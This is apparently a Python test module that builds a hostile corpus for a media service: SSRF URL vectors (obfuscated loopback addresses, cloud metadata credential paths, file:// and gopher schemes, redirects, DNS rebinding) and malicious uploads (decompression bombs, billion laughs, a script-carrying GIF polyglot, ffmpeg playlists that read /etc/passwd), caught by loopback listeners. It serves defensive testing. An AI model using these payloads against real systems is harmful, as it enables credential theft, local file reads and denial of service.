"""Generators of the hostile corpus (issue 11): SSRF vectors for the remote-URL and webhook
paths, hostile files for the upload path, and the loopback listeners that catch a leak.

Everything is built here in code from a few seeds (an address, a real tiny image, a playlist):
nothing is downloaded and the suite runs offline. URL templates say `{port}` where the canary's
port goes, since it is only known once the canary listens."""

import gzip
import io
import os
import selectors
import socket
import struct
import threading
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import IPv4Address
from typing import Any

os.environ.setdefault("VIPS_BLOCK_UNTRUSTED", "1")

import piexif  # noqa: E402
import pyvips  # noqa: E402

from tests import mediagen  # noqa: E402
from tests.images.support import gif_with_frames  # noqa: E402

# --------------------------------------------------------------------------- listeners


def _has_ipv6_loopback() -> bool:
    try:
        socket.create_server(("::1", 0), family=socket.AF_INET6).close()
    except OSError:
        return False
    return True


# Where nothing listens (no IPv6 here), a connection attempt fails fast and the guard's own
# words in the refusal still tell it apart.
CANARY_HOSTS = ("127.0.0.1", "127.0.0.2", *(("::1",) if _has_ipv6_loopback() else ()))
# The only address a redirect or rebinding test lets through the guard: an "allowed-looking"
# origin that exists on loopback alone, on the canary's port.
ORIGIN_IP = "127.0.0.3"
# Names the test resolver answers (test_ssrf_corpus patches socket.getaddrinfo); .test is
# reserved (RFC 2606), so a real resolver never knows them.
TEST_DOMAIN = ".corpus.test"


class Canary:
    """TCP listeners on every loopback address the vectors name, all on `port`, counting the
    connections they get from anyone (this process, a worker, ffmpeg, librsvg...)."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.connections = 0
        self.first_bytes: list[bytes] = []
        self._sockets: list[socket.socket] = []
        try:
            for host in CANARY_HOSTS:
                family = socket.AF_INET6 if ":" in host else socket.AF_INET
                self._sockets.append(socket.create_server((host, port), family=family))
        except OSError:
            self._close_sockets()
            raise
        self._selector = selectors.DefaultSelector()
        for sock in self._sockets:
            self._selector.register(sock, selectors.EVENT_READ)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            for key, _ in self._selector.select(timeout=0.1):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    conn, _ = sock.accept()
                except OSError:
                    continue
                self.connections += 1
                conn.settimeout(0.5)
                try:
                    self.first_bytes.append(conn.recv(200))
                except OSError:
                    self.first_bytes.append(b"")
                conn.close()

    def _close_sockets(self) -> None:
        for sock in self._sockets:
            sock.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._selector.close()
        self._close_sockets()


@dataclass
class Origin:
    """An HTTP server on ORIGIN_IP answering `/r/N` with a redirect to `locations[N]`."""

    server: ThreadingHTTPServer
    locations: list[str] = field(default_factory=list)
    status: int = 302
    paths: list[str] = field(default_factory=list)

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])

    def url(self, path: str) -> str:
        return f"http://{ORIGIN_IP}:{self.port}{path}"


def _origin_handler(origin_ref: list[Origin]) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            origin = origin_ref[0]
            origin.paths.append(self.path)
            hop = self.path.rsplit("/", 1)[-1]
            if self.path.startswith("/r/") and hop.isdigit() and int(hop) < len(origin.locations):
                self.send_response(origin.status)
                self.send_header("Location", origin.locations[int(hop)])
            else:
                self.send_response(404)
            self.send_header("Content-Length", "0")
            self.send_header("Connection", "close")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None:
            pass

    return Handler


@contextmanager
def listeners() -> Iterator[tuple[Canary, Origin]]:
    """The canary and the redirecting origin, on one port (so that a name answering first the
    origin and then the canary, a rebinding resolver, reaches the canary if anything
    connects after a second lookup)."""
    for _ in range(20):
        holder: list[Origin] = []
        server = ThreadingHTTPServer((ORIGIN_IP, 0), _origin_handler(holder))
        origin = Origin(server)
        holder.append(origin)
        try:
            canary = Canary(origin.port)
        except OSError:
            server.server_close()
            continue
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield canary, origin
        finally:
            server.shutdown()
            server.server_close()
            canary.close()
        return
    raise RuntimeError("no port free on every canary address")


# --------------------------------------------------------------------------- SSRF vectors


@dataclass(frozen=True)
class Vector:
    """One SSRF attempt. `url` (and each redirect location) is a template with `{port}`.

    `locations`: the allowed origin answers the request with redirects to these, in turn.
    `dns`: what the test resolver answers for a name under TEST_DOMAIN, lookup after lookup.
    `status`/`code`: API.md's answer; 400 `validation.invalid` where the URL does not even
    parse, else 502 `upstream.fetch_failed` (the guard)."""

    id: str
    group: str
    url: str
    locations: tuple[str, ...] = ()
    dns: tuple[tuple[str, tuple[str, ...]], ...] = ()
    status: int = 502
    code: str = "upstream.fetch_failed"
    redirect_status: int = 302
    webhook: bool = False  # in the subset that also goes through webhook creation
    delivery: bool = False  # and through delivery (a hook stored before the guard applied)

    def render(self, port: int) -> str:
        return _fill(self.url, port)

    def rendered_locations(self, port: int) -> list[str]:
        return [_fill(location, port) for location in self.locations]


def _fill(template: str, port: int) -> str:
    # {port+65536}: parsers that wrap the port modulo 2**16 would land on the canary.
    return template.replace("{port+65536}", str(port + 65536)).replace("{port}", str(port))


def ipv4_spellings(address: str) -> dict[str, str]:
    """Every way URL parsers and resolvers are known to accept one IPv4 address as a host."""
    number = int(IPv4Address(address))
    a, b, c, d = IPv4Address(address).packed
    hi, lo = number >> 16, number & 0xFFFF
    fullwidth = str.maketrans("0123456789.", "０１２３４５６７８９．")
    return {
        "dotted": address,
        "decimal": str(number),
        "hex": f"0x{number:x}",
        "octal": f"0{number:o}",
        "dotted-octal": ".".join(f"0{octet:o}" for octet in (a, b, c, d)),
        "dotted-hex": ".".join(f"0x{octet:x}" for octet in (a, b, c, d)),
        "two-parts": f"{a}.{(b << 16) | (c << 8) | d}",
        "three-parts": f"{a}.{b}.{(c << 8) | d}",
        "hex-two-parts": f"0x{a:x}.{(b << 16) | (c << 8) | d}",
        "ideographic-dots": "\u3002".join(str(octet) for octet in (a, b, c, d)),
        "fullwidth": address.translate(fullwidth),
        "trailing-dot": address + ".",
        "percent-encoded": "".join(f"%{ord(ch):02x}" if ch != "." else ch for ch in address),
        "ipv6-mapped": f"[::ffff:{address}]",
        "ipv6-mapped-hex": f"[::ffff:{hi:x}:{lo:x}]",
        "ipv6-mapped-long": f"[0:0:0:0:0:ffff:{hi:x}:{lo:x}]",
        "ipv6-compatible": f"[::{address}]",
        "nat64": f"[64:ff9b::{address}]",
        "6to4": f"[2002:{hi:x}:{lo:x}::]",
    }


def _enclosed(host: str) -> str:
    """`host` in circled letters and digits (U+24D0.., U+2460.., U+24EA for zero)."""
    circled = {chr(ord("a") + n): chr(0x24D0 + n) for n in range(26)}
    circled |= {str(n): chr(0x2460 + n - 1) for n in range(1, 10)} | {"0": "\u24ea"}
    return "".join(circled.get(ch, ch) for ch in host)


_WEBHOOK_SPELLINGS = {"dotted", "decimal", "two-parts", "ipv6-mapped", "6to4"}
_DELIVERY_SPELLINGS = {"dotted", "decimal", "two-parts", "ipv6-mapped"}
_METADATA_SPELLINGS = ("dotted", "decimal", "hex", "octal", "dotted-octal", "ipv6-mapped-hex")


def _direct() -> Iterator[Vector]:
    for name, host in ipv4_spellings("127.0.0.1").items():
        yield Vector(
            f"loopback-{name}",
            "loopback",
            f"http://{host}:{{port}}/cat.png",
            webhook=name in _WEBHOOK_SPELLINGS,
            delivery=name in _DELIVERY_SPELLINGS,
        )
    metadata = ipv4_spellings("169.254.169.254")
    for name in _METADATA_SPELLINGS:
        yield Vector(
            f"metadata-{name}",
            "metadata",
            f"http://{metadata[name]}/latest/meta-data/iam/security-credentials/",
            webhook=name == "dotted",
            delivery=name == "dotted",
        )
    hosts = {
        "loopback-127.0.0.2": "127.0.0.2:{port}",
        "unspecified-0.0.0.0": "0.0.0.0:{port}",  # noqa: S104 - an address under test
        "unspecified-0": "0:{port}",
        "ipv6-loopback": "[::1]:{port}",
        "ipv6-unspecified": "[::]:{port}",
        "localhost": "localhost:{port}",
        "localhost-upper-dot": "LOCALHOST.:{port}",
        "localhost-subdomain": "metadata.localhost:{port}",
        # NFKC (IDNA) folds these to "localhost" and "127.0.0.1".
        "localhost-enclosed-letters": _enclosed("localhost") + ":{port}",
        "loopback-enclosed-digits": _enclosed("127.0.0.1") + ":{port}",
        "private-10": "10.0.0.1",
        "private-172.16": "172.16.0.1",
        "private-172.31": "172.31.255.254",
        "private-192.168": "192.168.1.1:8080",
        "cgnat-100.64": "100.64.0.1",
        "alibaba-metadata": "100.100.100.200",
        "benchmark-198.18": "198.18.0.1",
        "multicast": "224.0.0.1",
        "broadcast": "255.255.255.255",
        "ipv6-ula-aws-metadata": "[fd00:ec2::254]",
        "ipv6-ula-fc00": "[fc00::1]",
        "ipv6-link-local": "[fe80::1]",
        "ipv6-multicast": "[ff02::1]",
        "ipv6-site-local": "[fec0::1]",
        "ipv6-siit-loopback": "[::ffff:0:7f00:1]:{port}",
        # Teredo: the client address 127.0.0.1, stored inverted in the last 32 bits.
        "ipv6-teredo-loopback": "[2001:0:4136:e378:8000:63bf:80ff:fffe]:{port}",
    }
    webhook_hosts = {"ipv6-loopback", "localhost", "private-10", "ipv6-ula-aws-metadata"}
    delivery_hosts = {"loopback-127.0.0.2", "unspecified-0.0.0.0", "ipv6-loopback", "localhost",
                      "private-10", "private-192.168", "ipv6-link-local"}  # fmt: skip
    for name, host in hosts.items():
        yield Vector(
            name,
            "private",
            f"http://{host}/",
            webhook=name in webhook_hosts,
            delivery=name in delivery_hosts,
        )
    # A zone id is no valid URL host: refused before the guard.
    yield Vector("ipv6-link-local-zone", "private", "http://[fe80::1%25eth0]/", status=400,
                 code="validation.invalid", webhook=True)  # fmt: skip

    userinfo = {
        "userinfo-evil-at": "http://evil@127.0.0.1:{port}/",
        "userinfo-public-at-loopback": "http://example.com@127.0.0.1:{port}/",
        "userinfo-with-port": "http://example.com:80@127.0.0.1:{port}/",
        "fragment-at": "http://127.0.0.1:{port}#@example.com/",
        "query-at": "http://127.0.0.1:{port}?@example.com/",
        "backslash-at": "http://127.0.0.1:{port}\\@example.com/",
    }
    for name, url in userinfo.items():
        yield Vector(name, "userinfo", url, webhook=name in ("userinfo-evil-at", "fragment-at"))

    schemes = {
        "scheme-file": "file:///etc/passwd",
        "scheme-file-localhost": "file://localhost/etc/passwd",
        "scheme-gopher": "gopher://127.0.0.1:{port}/_GET%20/%20HTTP/1.0%0d%0a",
        "scheme-ftp": "ftp://127.0.0.1:{port}/",
        "scheme-dict": "dict://127.0.0.1:{port}/info",
        "scheme-ldap": "ldap://127.0.0.1:{port}/",
        "scheme-tftp": "tftp://127.0.0.1:{port}/x",
        "scheme-netdoc": "netdoc:///etc/passwd",
        "scheme-ws": "ws://127.0.0.1:{port}/",
        "scheme-data": "data:image/png;base64,iVBORw0KGgo=",
        "scheme-jar": "jar:http://127.0.0.1:{port}/x.jar!/",
        "scheme-slash-backslash": "http:/\\127.0.0.1:{port}/",
        "scheme-no-slashes": "http:127.0.0.1:{port}/",
        "scheme-three-slashes": "http:///127.0.0.1:{port}/",
        "scheme-upper-case": "HTTP://127.0.0.1:{port}/",
    }
    webhook_schemes = {"scheme-file", "scheme-gopher", "scheme-data", "scheme-slash-backslash"}
    for name, url in schemes.items():
        yield Vector(name, "scheme", url, webhook=name in webhook_schemes)

    yield Vector("port-ssh", "port", "http://127.0.0.1:22/")
    yield Vector("port-redis", "port", "http://10.0.0.1:6379/")
    yield Vector("port-zero", "port", "http://127.0.0.1:0/")
    yield Vector("port-out-of-range", "port", "http://127.0.0.1:65536/", status=400,
                 code="validation.invalid")  # fmt: skip
    yield Vector("port-wraps-to-canary", "port", "http://127.0.0.1:{port+65536}/", status=400,
                 code="validation.invalid")  # fmt: skip

    yield Vector("long-path", "long", "http://127.0.0.1:{port}/" + "a" * 100_000, webhook=False)
    yield Vector("long-host-label", "long", "http://" + "a" * 300 + ".example/")
    yield Vector("long-host-total", "long", "http://" + ".".join(["a" * 60] * 70) + "/")

    crlf = {
        "crlf-raw": "http://127.0.0.1:{port}/\r\nX-Injected: 1",
        "crlf-encoded": "http://127.0.0.1:{port}/%0d%0aX-Injected:%201",
        "tab-in-host": "http://127.0.0.\t1:{port}/",
        "crlf-in-host": "http://127.0.0.1\r\n:{port}/",
    }
    for name, url in crlf.items():
        yield Vector(name, "crlf", url, webhook=name == "crlf-raw")
    for name, url in {
        "nul-in-host": "http://127.0.0.1%00.example.com:{port}/",
        "space-in-host": "http://127.0.0.1 :{port}/",
    }.items():
        yield Vector(name, "crlf", url, status=400, code="validation.invalid")


def _resolved() -> Iterator[Vector]:
    answers = {
        "dns-to-loopback": ("127.0.0.1",),
        "dns-public-and-loopback": ("93.184.216.34", "127.0.0.1"),
        "dns-to-ipv6-loopback": ("::1",),
        "dns-to-metadata": ("169.254.169.254",),
        "dns-to-mapped-loopback": ("::ffff:127.0.0.1",),
    }
    for name, addresses in answers.items():
        host = f"{name}{TEST_DOMAIN}"
        # Every lookup gets all the addresses (one multi-record answer).
        yield Vector(
            name,
            "dns",
            f"http://{host}:{{port}}/",
            dns=((host, (",".join(addresses),)),),
            webhook=name == "dns-public-and-loopback",
        )


def _redirects() -> Iterator[Vector]:
    start = f"http://{ORIGIN_IP}:{{port}}/r/0"
    targets = {
        "redirect-loopback": "http://127.0.0.1:{port}/secret",
        "redirect-decimal": "http://2130706433:{port}/secret",
        "redirect-ipv6-loopback": "http://[::1]:{port}/secret",
        "redirect-mapped": "http://[::ffff:127.0.0.2]:{port}/secret",
        "redirect-localhost": "http://localhost:{port}/secret",
        "redirect-metadata": "http://169.254.169.254/latest/meta-data/",
        "redirect-file": "file:///etc/passwd",
        "redirect-gopher": "gopher://127.0.0.1:{port}/_x",
        "redirect-scheme-relative": "//127.0.0.1:{port}/secret",
        "redirect-userinfo": "http://origin@127.0.0.1:{port}/secret",
    }
    statuses = (301, 302, 303, 307, 308)
    for index, (name, target) in enumerate(targets.items()):
        status = statuses[index % len(statuses)]
        yield Vector(name, "redirect", start, locations=(target,), redirect_status=status)
    yield Vector(
        "redirect-chain-then-loopback",
        "redirect",
        start,
        locations=("/r/1", "/r/2", "http://127.0.0.2:{port}/secret"),
    )
    host = f"redirect-dns{TEST_DOMAIN}"
    yield Vector(
        "redirect-to-name-of-loopback",
        "redirect",
        start,
        locations=(f"http://{host}:{{port}}/secret",),
        dns=((host, ("127.0.0.1",)),),
    )


def _rebinding() -> Iterator[Vector]:
    # First lookup: the allowed origin; every later one: the canary, on the same port. The
    # origin redirects to the same name, so the second hop needs a second lookup.
    host = f"rebind{TEST_DOMAIN}"
    yield Vector(
        "dns-rebinding",
        "rebinding",
        f"http://{host}:{{port}}/r/0",
        locations=(f"http://{host}:{{port}}/r/1",),
        dns=((host, (ORIGIN_IP, "127.0.0.1")),),
    )


def ssrf_vectors() -> list[Vector]:
    vectors = [*_direct(), *_resolved(), *_redirects(), *_rebinding()]
    ids = [vector.id for vector in vectors]
    assert len(ids) == len(set(ids)), "vector ids must be unique"
    return vectors


# --------------------------------------------------------------------------- hostile files

PASSWD = "/etc/passwd"


Build = Callable[[int], bytes]


@dataclass(frozen=True)
class HostileFile:
    """One hostile upload. `build(port)` makes the bytes (the canary's port for payloads that
    call out). Expected answer: `status`+`code`, or 201 with `inert_mime` (stored as that
    inert type and never served as anything else)."""

    id: str
    filename: str
    declared: str
    build: Build
    status: int = 415
    code: str = "validation.mime.unsupported"
    inert_mime: str | None = None
    # Also uploaded to an app with MEDIA_ALLOW_SVG=true, where it is "refused" all the same
    # or "attachment": stored as uploaded and only ever served as a download.
    svg_allowed: str | None = None
    postgres_s3: bool = False  # also uploaded on the PostgreSQL+S3 pair


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_declaring(width: int, height: int, *, idat: bytes | None = None) -> bytes:
    """A PNG whose IHDR says width×height 8-bit grey; IDAT is zlib'd zero rows (a bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(b"\x00" * (1 << 20), 9)  # 1 MiB of filter bytes and zeros
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def png_with_chunks(extra: bytes) -> bytes:
    """A real PNG with `extra` chunks inserted right after IHDR."""
    data = mediagen.png(24, 16)
    ihdr_end = 8 + 8 + 13 + 4
    return data[:ihdr_end] + extra + data[ihdr_end:]


def jpeg_with_sof(width: int, height: int) -> bytes:
    """A real JPEG whose SOF header is rewritten to claim width×height."""
    data = bytearray(mediagen.jpeg(32, 24))
    for marker in (b"\xff\xc0", b"\xff\xc2", b"\xff\xc1"):
        at = data.find(marker)
        if at > 0:
            data[at + 5 : at + 9] = struct.pack(">HH", height, width)
            return bytes(data)
    raise AssertionError("no SOF marker in the generated JPEG")


def jpeg_with_segments(segments: list[bytes]) -> bytes:
    """A real JPEG with these whole segments (marker + length + body) right after SOI."""
    data = mediagen.jpeg(32, 24)
    return data[:2] + b"".join(segments) + data[2:]


def _segment(marker: int, body: bytes) -> bytes:
    assert len(body) <= 65533
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def gif_image(width: int = 16, height: int = 16) -> bytes:
    data: bytes = (
        (pyvips.Image.black(width, height, bands=3) + [40, 120, 200])
        .cast("uchar")
        .copy(interpretation="srgb")
        .write_to_buffer(".gif")
    )
    return data


def gif_huge_screen() -> bytes:
    """A real tiny GIF whose logical screen claims 65535×65535."""
    data = bytearray(gif_image())
    data[6:10] = struct.pack("<HH", 65535, 65535)
    return bytes(data)


def gif_js_polyglot() -> bytes:
    """A real GIF carrying script in a comment extension and after its trailer."""
    data = gif_image()
    script = b"<script>alert(document.domain)</script>"
    comment = b"\x21\xfe" + bytes([len(script)]) + script + b"\x00"
    return data[:-1] + comment + b"\x3b" + b"\n*/=1;alert(document.cookie);//" + script


def webp_bomb() -> bytes:
    """A real tiny WebP re-wrapped in VP8X claiming a 16384×16384 canvas."""
    data: bytes = (pyvips.Image.black(8, 8, bands=3) + 90).cast("uchar").write_to_buffer(".webp")
    at = data.find(b"VP8 ")
    if at < 0:
        raise AssertionError("expected a lossy VP8 WebP")
    vp8 = data[at:]
    canvas = struct.pack("<I", 16383)[:3] * 2
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + canvas
    body = b"WEBP" + vp8x + vp8
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_lossless_bomb(width: int = 9000, height: int = 9000) -> bytes:
    """A 30-byte lossless WebP (VP8L) of width×height pixels of one colour: every prefix code
    has a single symbol, so each pixel costs zero bits. Under MEDIA_MAX_PIXELS, yet libwebp
    decodes whole frames: 9000×9000 holds ~620 MiB (issue 17, M1)."""
    fields = [(width - 1, 14), (height - 1, 14), (1, 1), (0, 3)]  # size, alpha, version 0
    fields += [(0, 1), (0, 1), (0, 1)]  # no transform, no colour cache, no meta prefix codes
    for value, wide in ((0, False), (0, False), (0, False), (255, True), (0, False)):
        # green, red, blue, alpha, distance: a "simple" code with one symbol
        fields += [(1, 1), (0, 1), (int(wide), 1), (value, 8 if wide else 1)]
    bits = shift = 0
    for value, count in fields:
        bits |= value << shift
        shift += count
    data = b"\x2f" + bits.to_bytes((shift + 7) // 8, "little")
    data += b"\x00" * (len(data) & 1)
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def tiff_with_tags(
    width: int, height: int, extra_tags: int = 0, pixels: bytes | None = None
) -> bytes:
    """A little-endian grey TIFF, one deflated strip; `extra_tags` unknown private tags."""
    strip = zlib.compress(pixels if pixels is not None else b"\x00" * (1 << 20), 9)
    tags: list[tuple[int, int, int, int]] = [
        (256, 4, 1, width),  # ImageWidth (LONG)
        (257, 4, 1, height),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 8),  # Compression: deflate
        (262, 3, 1, 1),  # Photometric: min-is-black
        (273, 4, 1, 0),  # StripOffsets, patched below
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, height),  # RowsPerStrip
        (279, 4, 1, len(strip)),  # StripByteCounts
    ]
    tags += [(40000 + index, 3, 1, index & 0xFFFF) for index in range(extra_tags)]
    tags.sort()
    ifd_offset = 8
    ifd_size = 2 + 12 * len(tags) + 4
    strip_offset = ifd_offset + ifd_size
    ifd = struct.pack("<H", len(tags))
    for tag, kind, count, value in tags:
        if tag == 273:
            value = strip_offset
        packed = struct.pack("<HH", value, 0) if kind == 3 else struct.pack("<I", value)
        ifd += struct.pack("<HHI", tag, kind, count) + packed
    ifd += struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", ifd_offset) + ifd + strip


def _jpeg_segments(data: bytes) -> list[bytes]:
    """A baseline or progressive JPEG cut into its segments (a scan with its entropy data)."""
    out, at = [], 2
    while at < len(data):
        marker = data[at + 1]
        if marker == 0xD9:
            out.append(data[at : at + 2])
            break
        end = at + 2 + struct.unpack(">H", data[at + 2 : at + 4])[0]
        if marker == 0xDA:
            while True:
                end = data.index(b"\xff", end)
                if data[end + 1] == 0 or 0xD0 <= data[end + 1] <= 0xD7:
                    end += 2
                    continue
                break
        out.append(data[at:end])
        at = end
    return out


def jpeg_scan_bomb(scans: int = 3000) -> bytes:
    """A real progressive JPEG whose last refinement scan is repeated `scans` times (a
    libjpeg "scan bomb": every scan is a pass over the image; past a few repeats the
    progression is also inconsistent, which the decoder must notice and stop on)."""
    progressive = (
        pyvips.Image.gaussnoise(64, 64).cast("uchar").write_to_buffer(".jpg", interlace=True)
    )
    segments = _jpeg_segments(progressive)
    last_scan = [segment for segment in segments if segment[1] == 0xDA][-1]
    head = b"".join(segment for segment in segments if segment[1] != 0xD9)
    return b"\xff\xd8" + head + last_scan * scans + b"\xff\xd9"


def tiff_ifd_loop() -> bytes:
    """A valid 8×8 TIFF whose first directory names itself as the next one."""
    data = bytearray(tiff_with_tags(8, 8, 0, b"\x80" * 64))
    entries = struct.unpack("<H", data[8:10])[0]
    next_at = 8 + 2 + 12 * entries
    data[next_at : next_at + 4] = struct.pack("<I", 8)
    return bytes(data)


def id3_huge_size() -> bytes:
    """An ID3v2 tag header declaring a 256 MiB tag, followed by 200 bytes."""
    size = 0x0FFFFFFF
    syncsafe = bytes([(size >> 21) & 0x7F, (size >> 14) & 0x7F, (size >> 7) & 0x7F, size & 0x7F])
    return b"ID3\x04\x00\x00" + syncsafe + b"TIT2" + b"\x00" * 200


def wav_huge_data_size() -> bytes:
    """A real WAV whose data chunk claims 4 GiB."""
    wav = mediagen.wav(0.5)
    at = wav.find(b"data")
    return wav[: at + 4] + struct.pack("<I", 0xFFFFFFF0) + wav[at + 8 :]


def exif_with_entries(entries: int) -> bytes:
    """An APP1 EXIF segment whose IFD0 holds `entries` (unknown, SHORT) tags."""
    ifd = struct.pack("<H", entries)
    for index in range(entries):
        ifd += struct.pack("<HHIHH", 50000 + index, 3, 1, index & 0xFFFF, 0)
    tiff = b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0)
    return _segment(0xE1, b"Exif\x00\x00" + tiff)


def bmp_header(width: int, height: int) -> bytes:
    """A BMP (BITMAPINFOHEADER, 24 bit) declaring any signed width and height, 64 bytes of
    pixels."""
    pixels = b"\x00" * 64
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    head = b"BM" + struct.pack("<IHHI", 14 + len(info) + len(pixels), 0, 0, 14 + len(info))
    return head + info + pixels


def zip_bomb(inner_name: str = "zeros.bin", size: int = 64 << 20) -> bytes:
    """A zip archive holding `size` zero bytes in ~64 KiB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open(inner_name, "w", force_zip64=True) as member:
            block = b"\x00" * (1 << 20)
            for _ in range(size >> 20):
                member.write(block)
    return out.getvalue()


def svgz_bomb(size: int = 32 << 20) -> bytes:
    """An SVG whose gzip'd form is ~32 KiB and whose inflated form is `size` bytes."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><desc>' + b" " * size + b"</desc></svg>"
    return gzip.compress(svg, 9)


def elf_header() -> bytes:
    """A minimal 64-bit x86-64 ELF executable header (the program itself is `exit(0)`)."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"  # xor edi,edi; mov eax,60; syscall
    ehdr = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    ehdr += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(code),
                       120 + len(code), 0x1000)  # fmt: skip
    return ehdr + phdr + code


def pe_header() -> bytes:
    dos = b"MZ" + b"\x90\x00" * 29 + struct.pack("<I", 64)
    return (
        dos
        + b"PE\x00\x00"
        + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0xF0, 0x22)
        + b"\x00" * 240
    )


def hls_playlist(port: int) -> bytes:
    return (
        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
        f"#EXTINF:10.0,\nfile://{PASSWD}\n"
        f"#EXTINF:10.0,\nhttp://127.0.0.1:{port}/segment.ts\n#EXT-X-ENDLIST\n"
    ).encode()


def hls_behind_ftyp(port: int) -> bytes:
    """An mp4 `ftyp` box followed by a playlist: sniffs as MP4, demuxes as nothing."""
    ftyp = struct.pack(">I", 24) + b"ftypisom" + struct.pack(">I", 512) + b"isomiso2"
    return ftyp + hls_playlist(port)


def concat_list(port: int) -> bytes:
    return f"ffconcat version 1.0\nfile '{PASSWD}'\nfile 'http://127.0.0.1:{port}/x.mp4'\n".encode()


def gab2_avi(port: int) -> bytes:
    """A RIFF AVI whose subtitle chunk is a GAB2 block holding an HLS playlist (the 2017
    ffmpeg local-file-read trick)."""
    playlist = hls_playlist(port)
    gab2 = (
        b"GAB2\x00\x02\x00"
        + struct.pack("<I", 0)
        + b"\x04\x00"
        + struct.pack("<I", len(playlist))
        + playlist
    )

    def chunk(fourcc: bytes, body: bytes) -> bytes:
        return fourcc + struct.pack("<I", len(body)) + body + (b"\x00" if len(body) % 2 else b"")

    def lst(kind: bytes, body: bytes) -> bytes:
        return chunk(b"LIST", kind + body)

    avih = struct.pack("<14I", 100000, 0, 0, 0x10, 1, 0, 1, 0, 64, 48, 0, 0, 0, 0)
    strh = (
        b"txts"
        + b"\x00" * 4
        + struct.pack("<IHHIIIIIIIIhhhh", 0, 0, 0, 0, 1, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    )
    hdrl = lst(b"hdrl", chunk(b"avih", avih) + lst(b"strl", chunk(b"strh", strh)))
    movi = lst(b"movi", chunk(b"00tx", gab2))
    body = b"AVI " + hdrl + movi
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _boxes(data: bytes | bytearray, start: int, end: int) -> Iterator[tuple[int, int, bytes]]:
    at = start
    while at + 8 <= end:
        size, kind = struct.unpack(">I4s", data[at : at + 8])
        if size < 8:
            return
        yield at, size, kind
        at += size


def _find_box(data: bytearray, names: list[bytes]) -> list[int]:
    """Offsets of the boxes on the path `names` (moov/trak/...), outermost first."""
    found: list[int] = []
    start, end = 0, len(data)
    for name in names:
        at, size = next((a, z) for a, z, kind in _boxes(data, start, end) if kind == name)
        found.append(at)
        start, end = at + (16 if name == b"dref" else 8), at + size
    return found


def mp4_external_dref(location: str) -> bytes:
    """A real MP4 whose data reference says the samples live in `location` (a file or URL)
    instead of in this file: FFmpeg opens such references only with `enable_drefs`."""
    data = bytearray(mediagen.mp4(1.0))
    path = _find_box(data, [b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref"])
    entry = path[-1] + 16
    old_size = struct.unpack(">I", data[entry : entry + 4])[0]
    target = location.encode() + b"\x00"
    # flags 0: not self-contained, the location names where the media is
    new = struct.pack(">I4sI", 12 + len(target), b"url ", 0) + target
    grow = len(new) - old_size
    data[entry : entry + old_size] = new
    for box in path:
        data[box : box + 4] = struct.pack(">I", struct.unpack(">I", data[box : box + 4])[0] + grow)
    # moov comes before mdat (faststart): the chunk offsets move by what moov grew.
    stco = _find_box(data, [b"moov", b"trak", b"mdia", b"minf", b"stbl", b"stco"])[-1]
    for index in range(struct.unpack(">I", data[stco + 12 : stco + 16])[0]):
        at = stco + 16 + 4 * index
        data[at : at + 4] = struct.pack(">I", struct.unpack(">I", data[at : at + 4])[0] + grow)
    return bytes(data)


def self_playlist() -> bytes:
    variant = b"#EXT-X-STREAM-INF:BANDWIDTH=1\nclip.mp4\n"
    return b"#EXTM3U\n" + variant + variant


SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(body: str, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0"?>\n{prolog}<svg {SVG_NS} width="10" height="10">'
            f"{body}</svg>\n").encode()  # fmt: skip


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">']
    for level in range(1, 10):
        entities.append(
            f'<!ENTITY lol{level} "{("&lol" + str(level - 1) + ";") * 10}">'.replace(
                "&lol0;", "&lol;"
            )
        )
    prolog = "<!DOCTYPE svg [\n" + "\n".join(entities) + "\n]>\n"
    return svg("<text>&lol9;</text>", prolog)


